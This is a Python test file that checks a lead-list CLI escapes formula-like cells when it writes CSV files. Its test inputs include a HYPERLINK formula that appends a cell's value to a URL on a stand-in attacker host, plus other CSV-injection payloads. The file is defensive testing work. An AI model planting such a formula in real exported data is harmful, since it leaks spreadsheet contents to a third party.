"""Every CSV the command writes is safe to open in a spreadsheet (OWASP "CSV Injection"): a cell that
starts like a formula gets a `'` in front, from the input's columns, the API's text, the header and the
rejects file alike; JSON Lines keep every value exact; the command reads its own files back exactly."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import httpx
import pytest
import respx
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from amplemarket_lead_lists.cli.app import app
from amplemarket_lead_lists.cli.cells import FORMULA_START, neutralise, restore
from contract_tests.polling_harness import CT, LL, TOKEN, body, error, next_href

runner = CliRunner()
LINK = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
HOSTILE = [LINK, "+1 415 555 0100", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=already marked"]


def cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(newline="", encoding=encoding) as handle:
        return list(csv.reader(handle))


def formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


@pytest.fixture(autouse=True)
def no_api_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("AMPLEMARKET_API_KEY", "AMPLEMARKET_BASE_URL", "AMPLEMARKET_OWNER"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SANDBOX_QUEUE_SECONDS", "0")  # lists complete at once
    monkeypatch.setenv("SANDBOX_PROCESSING_SECONDS", "0")


def titles_file(path: Path) -> Path:
    """A titles-and-company file: the sandbox returns the title and company sent, as scraped text would be."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["=crm id", "Job Title", "Company"])
        for number, text in enumerate(HOSTILE):
            writer.writerow([text, f"{text} {number}", "-Acme"])
        writer.writerow(["@rejected", "", "no title"])
    return path


@pytest.mark.parametrize("excel", [False, True], ids=["csv", "excel"])
def test_formula_cells_of_the_input_and_the_api_are_written_as_text(tmp_path: Path, excel: bool) -> None:
    source = titles_file(tmp_path / "in.csv")
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["enrich", "--sandbox", *(["--excel"] if excel else []), str(source), str(out)])
    assert result.exit_code == 0, result.output
    written = cells(out, "utf-8-sig" if excel else "utf-8")
    assert formulas(written) == []
    header, rows = written[0], written[1:]
    assert header[0] == "'=crm id"
    assert [row[0] for row in rows] == [neutralise(text) for text in HOSTILE]
    title = header.index("title")
    assert rows[0][title] == f"'{LINK} 0"  # the API's text, as a scraped profile's would be
    assert rows[0][header.index("company_name")] == "'-Acme"
    rejects = cells(tmp_path / "out.rejects.csv")
    assert formulas(rejects) == []
    assert rejects[0][2] == "'=crm id" and rejects[1][2] == "'@rejected"


def test_json_lines_keep_every_value_exact(tmp_path: Path) -> None:
    source = titles_file(tmp_path / "in.csv")
    out = tmp_path / "out.jsonl"
    result = runner.invoke(app, ["enrich", "--sandbox", str(source), str(out)])
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [record["=crm id"] for record in records] == HOSTILE
    assert records[0]["title"] == f"{LINK} 0"


def test_export_writes_the_apis_formula_text_as_text_and_resumes_after_a_marked_id(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AMPLEMARKET_API_KEY", TOKEN)
    monkeypatch.setenv("AMPLEMARKET_BASE_URL", "https://api.example.test")
    first = body(entries=range(1), next_href="?page[size]=100&page[after]=-e1")
    first["leads"][0].update(id="-e1", title=LINK, company_name="@Acme")
    second = body(entries=range(2, 3))
    out = tmp_path / "entries.csv"
    with respx.mock(base_url="https://api.example.test") as api:
        route = api.get(f"/lead-lists/{LL}").mock(
            side_effect=[httpx.Response(200, headers=CT, json=first), error(404, "not_found")]
        )
        stopped = runner.invoke(app, ["export", LL, str(out)])
        assert stopped.exit_code == 1, stopped.output
        written = cells(out)
        assert formulas(written) == []
        assert written[1][:1] == ["'-e1"] and f"'{LINK}" in written[1] and "'@Acme" in written[1]
        route.side_effect = [httpx.Response(200, headers=CT, json=second)]
        again = runner.invoke(app, ["export", LL, str(out)])
    assert again.exit_code == 0, again.output
    assert route.calls.last.request.url.params["page[after]"] == "-e1"  # the id as the API gave it
    assert [row[0] for row in cells(out)[1:]] == ["'-e1", "e00002"]


def test_finishing_an_enrich_keeps_its_marked_rows_and_marks_them_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AMPLEMARKET_API_KEY", TOKEN)
    monkeypatch.setenv("AMPLEMARKET_BASE_URL", "https://api.example.test")
    source = tmp_path / "in.csv"
    source.write_text(
        "=id,linkedin_url\n-1,https://www.linkedin.com/in/p0\n'=2,https://www.linkedin.com/in/p1\n", encoding="utf-8"
    )
    out = tmp_path / "out.csv"
    args = ["enrich", "--lead-list", LL, str(source), str(out)]
    pages = {None: body(entries=range(1), next_href=next_href(0)), "e00000": body(entries=range(1, 2))}
    with respx.mock(base_url="https://api.example.test") as api:
        route = api.get(f"/lead-lists/{LL}")
        route.side_effect = lambda request: httpx.Response(
            200, headers=CT, json=pages[request.url.params.get("page[after]")]
        )
        assert runner.invoke(app, args).exit_code == 0
        complete = out.read_bytes()
        out.write_bytes(b"".join(complete.splitlines(keepends=True)[:2]))  # the second entry not yet written
        again = runner.invoke(app, args)
    assert again.exit_code == 0, again.output
    assert f"{out} already has 1 rows of 1 entries: continuing after entry e00000" in again.stderr
    assert out.read_bytes() == complete
    assert [row[0] for row in cells(out)] == ["'=id", "'-1", "''=2"]


@given(st.text())
def test_the_mark_is_reversible_and_leaves_no_formula(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_START)
    assert neutralise(text).endswith(text)  # the visible text is kept
